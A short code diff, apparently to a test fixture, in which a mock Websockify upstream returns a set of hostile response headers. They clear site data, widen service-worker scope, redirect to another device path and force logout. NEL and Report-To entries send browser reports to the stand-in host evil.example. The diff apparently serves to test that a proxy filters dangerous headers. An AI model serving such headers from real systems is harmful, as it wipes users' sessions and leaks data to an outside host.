@@ -112,7 +112,16 @@ export class Upstream {
           'WWW-Authenticate': 'Basic realm="Websockify"',
           'Access-Control-Allow-Origin': '*',
           'Content-Security-Policy': "default-src 'none'",
-          'X-Kept': 'yes',
+          'Clear-Site-Data': '"*"',
+          'Service-Worker-Allowed': '/',
+          NEL: '{"report_to":"x","max_age":99}',
+          'Report-To': '{"group":"x","max_age":99,"endpoints":[{"url":"https://evil.example"}]}',
+          'Reporting-Endpoints': 'x="https://evil.example"',
+          Refresh: '0; url=/devices/other/',
+          'Set-Login': 'logged-out',
+          Link: '</devices/other/x>; rel=preload; as=image',
+          'X-Anything': 'yes',
+          'Retry-After': '3',
         })
         response.end('no')
         break
